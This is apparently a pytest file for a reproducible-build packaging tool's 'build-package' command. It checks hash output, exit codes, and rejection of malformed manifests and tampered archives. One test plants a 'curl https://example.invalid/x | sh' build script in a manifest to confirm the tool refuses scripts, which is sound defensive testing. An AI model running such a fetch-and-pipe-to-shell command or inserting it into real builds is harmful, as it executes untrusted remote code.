"""`repo-tool build-package`: what authors and rebuilders run."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from builder.archive import archive_from_tree
from builder.plan import load_index
from tests.builder.conftest import PACKAGES, REPO, Built
from tests.repository.helpers import run


def build_package_spt(manifest: Path, built: Built, out: Path, *options: str) -> list[str]:
    """`build-package MANIFEST --target spt`, cached and signed with the fixtures' builder key."""
    return [
        "build-package",
        str(manifest),
        "--tree",
        str(REPO),
        "--target",
        "spt",
        *options,
        "--out",
        str(out),
        "--cache",
        str(built.cache),
        "--key",
        str(built.key),
        "--insecure-plaintext",
    ]


@pytest.mark.sandbox
def test_build_package_prints_the_hashes_an_author_signs(built: Built, tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = run([*build_package_spt(PACKAGES / "hello" / "1.0.0", built, out), "--json"])
    assert result.exit_code == 0, result.output
    document = json.loads(result.output)
    (only,) = document["results"]
    assert only["status"] == "reproducible" and only["cached"]
    assert only["sha256"] == built.results[("hello", "spt")].sha256
    manifest = load_index(PACKAGES)[("hello", "1.0.0")]
    assert Path(document["archive"]).read_bytes() == archive_from_tree(
        REPO, manifest.sources, manifest.source_date_epoch
    )
    assert (out / "index.html").is_file() and (out / "index.json").is_file()
    text = run(build_package_spt(PACKAGES / "hello" / "1.0.0" / "manifest.json", built, out))
    assert text.exit_code == 0
    assert f"hello.spt sha256={only['sha256']} length={only['size']}" in text.output


@pytest.mark.sandbox
def test_build_package_fails_with_one_line_on_an_unreproducible_package(
    built: Built, tmp_path: Path
) -> None:
    result = run(
        [*build_package_spt(PACKAGES / "unrepro_path" / "1.0.0", built, tmp_path, "--no-blame"),
         "--json"]
    )
    assert result.exit_code == 3  # refused as unreproducible (4 is a failed build)
    assert result.output.splitlines()[-1] == (
        "error: 1 of 1 images not reproducible: spt: unreproducible: build A and build B differ"
    )


@pytest.mark.skipif(os.geteuid() != 0, reason="build-package refuses to start without root")
def test_build_package_refuses_a_malformed_manifest(tmp_path: Path) -> None:
    bad = tmp_path / "manifest.json"
    doc = json.loads((PACKAGES / "hello" / "1.0.0" / "manifest.json").read_text())
    doc["build_script"] = "curl https://example.invalid/x | sh"
    bad.write_text(json.dumps(doc))
    result = run(["build-package", str(bad), "--tree", str(REPO), "--out", str(tmp_path / "o")])
    assert result.exit_code == 1
    assert result.output.strip() == (
        "error: manifest: unknown field(s) build_script (no scripts allowed)"
    )
    assert not (tmp_path / "o").exists()


def test_gate_refuses_an_archive_that_is_not_exactly_the_declared_sources() -> None:
    from builder.archive import SourceFile, create_archive, read_archive
    from builder.errors import BuildError
    from builder.plan import staged_package as _staged_package

    manifest_bytes = (PACKAGES / "hello" / "1.0.0" / "manifest.json").read_bytes()
    good = archive_of_hello()
    assert _staged_package(manifest_bytes, good, "hello", "1.0.0").manifest.name == "hello"
    extra = dict(read_archive(good))
    extra["unikernels/hello/payload.c"] = SourceFile("unikernels/hello/payload.c", b"int x;\n")
    with pytest.raises(BuildError, match="undeclared"):
        _staged_package(manifest_bytes, create_archive(extra, 0), "hello", "1.0.0")
    with pytest.raises(BuildError, match="missing"):
        _staged_package(manifest_bytes, create_archive({}, 0), "hello", "1.0.0")
    with pytest.raises(BuildError, match=r"carries a manifest of hello-1\.0\.0"):
        _staged_package(manifest_bytes, good, "hello", "2.0.0")


def archive_of_hello() -> bytes:
    manifest = load_index(PACKAGES)[("hello", "1.0.0")]
    return archive_from_tree(REPO, manifest.sources, manifest.source_date_epoch)


@pytest.mark.sandbox
def test_a_compile_failure_exits_4_with_the_log_path_and_the_compilers_last_lines(
    tmp_path: Path,
) -> None:
    tree = tmp_path / "tree"
    (tree / "src").mkdir(parents=True)
    (tree / "src" / "broken.c").write_text("int main(void) { return undeclared_thing; }\n")
    doc = json.loads((PACKAGES / "hello" / "1.0.0" / "manifest.json").read_text())
    doc.update(name="broken", sources=["src/broken.c"], targets=["hvt"], dependencies={})
    (tree / "manifest.json").write_text(json.dumps(doc))
    out = tmp_path / "out"
    result = run(
        ["build-package", str(tree / "manifest.json"), "--tree", str(tree), "--out", str(out),
         "--no-blame"]
    )
    assert result.exit_code == 4, result.output
    log = out / "broken" / doc["version"] / "hvt" / "a.log"
    assert f"  log: {log}" in result.stderr
    assert "error: \u2018undeclared_thing\u2019 undeclared" in result.stderr  # gcc, from the log
    assert result.stderr.splitlines()[-1] == (
        "error: 1 of 1 images not reproducible: hvt: failed: build a failed: "
        "build exited with status 1"
    )


def test_one_malformed_manifest_in_the_index_is_reported_and_skipped(tmp_path: Path) -> None:
    from builder.plan import scan_index

    shutil.copytree(PACKAGES / "hello", tmp_path / "hello")
    (tmp_path / "bad" / "1.0.0").mkdir(parents=True)
    (tmp_path / "bad" / "1.0.0" / "manifest.json").write_text('{"name": "bad"}')
    (tmp_path / "moved" / "2.0.0").mkdir(parents=True)
    shutil.copy(PACKAGES / "hello" / "1.0.0" / "manifest.json", tmp_path / "moved" / "2.0.0")
    index = scan_index(tmp_path)
    assert list(index.manifests) == [("hello", "1.0.0")]
    assert {p.parent.parent.name: m for p, m in index.broken.items()} == {
        "bad": "field 'version': expected a non-empty string",
        "moved": "declares hello-1.0.0, not moved-2.0.0",
    }
